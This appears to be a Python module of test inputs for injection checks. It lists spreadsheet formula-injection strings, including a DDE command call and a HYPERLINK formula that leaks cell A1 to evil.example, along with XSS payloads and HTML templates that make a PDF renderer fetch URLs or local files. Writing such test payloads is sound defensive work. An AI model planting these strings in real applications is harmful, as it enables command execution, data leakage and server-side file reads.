"""What an attacker types where text is asked for: formulas, pieces of a page, things for a PDF to fetch."""

# T06: what Excel and LibreOffice would take for a formula.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+32 9 123",
    "-1+1|cmd",
    "@SUM(1;1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
    "=IMPORTXML(\"http://evil.example\";\"//a\")",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "   =1+1",
    "''@x",
)  # fmt: skip
FORMULA_STARTS = frozenset("=+-@\t\r\n\0＝＋－＠")

# T09: each calls alert when a browser takes it for more than text.
XSS = (
    "<script>alert(1)</script>",
    "\"><script>alert(2)</script>",
    "'><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</style><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "--><script>alert(8)</script>",
    "]]><script>alert(9)</script>",
    "<img src=x onerror=alert(10)>",
    "\"><img src=x onerror=alert(11)>",
    "<svg onload=alert(12)>",
    "<svg><script>alert(13)</script></svg>",
    "<body onload=alert(14)>",
    "<iframe srcdoc='<script>alert(15)</script>'>",
    "<iframe src=javascript:alert(16)>",
    "<a href=javascript:alert(17)>x</a>",
    "<details open ontoggle=alert(18)>",
    "<input autofocus onfocus=alert(19)>",
    "<video><source onerror=alert(20)>",
    "<math><mtext></mtext><script>alert(21)</script></math>",
    "<object data=javascript:alert(22)>",
    "<base href='javascript:alert(23)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(24)'>",
    "\" onmouseover=alert(25) autofocus onfocus=alert(25) x=\"",
    "' onfocus=alert(26) autofocus x='",
    "javascript:alert(27)",
    "{{constructor.constructor('alert(28)')()}}",
    "{% include 'x' %}${alert(29)}",
    "\u2028<scr\0ipt>alert(30)</scr\0ipt>".replace("\0", ""),
)  # fmt: skip

# T08: twenty ways to make a document take along what is at {0}; tried with an address and with a file.
PDF_WAYS = (
    "<img src={0}>",
    "\"><img src=\"{0}\">",
    "<link rel=stylesheet href={0}>",
    "<link rel=attachment href={0}>",
    "<a rel=attachment href={0}>x</a>",
    "<a href={0}>x</a>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<iframe src={0}></iframe>",
    "<svg><image href='{0}'/></svg>",
    "<style>@import url({0});</style>",
    "</title><style>@font-face{{font-family:x;src:url({0})}}</style>",
    "<base href={0}>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "1;background:url({0})",
    "</style><script>fetch('{0}')</script>",
    "<div style='background:url({0})'>x</div>",
    "url({0})",
    "<svg xmlns='http://www.w3.org/2000/svg'><use href='{0}#a'/></svg>",
    "&lt;img src={0}&gt;<!--[if x]><img src={0}>",
)  # fmt: skip


def pdf(*places: str) -> tuple[str, ...]:
    """Every way with every place."""
    return tuple(way.format(place) for place in places for way in PDF_WAYS)
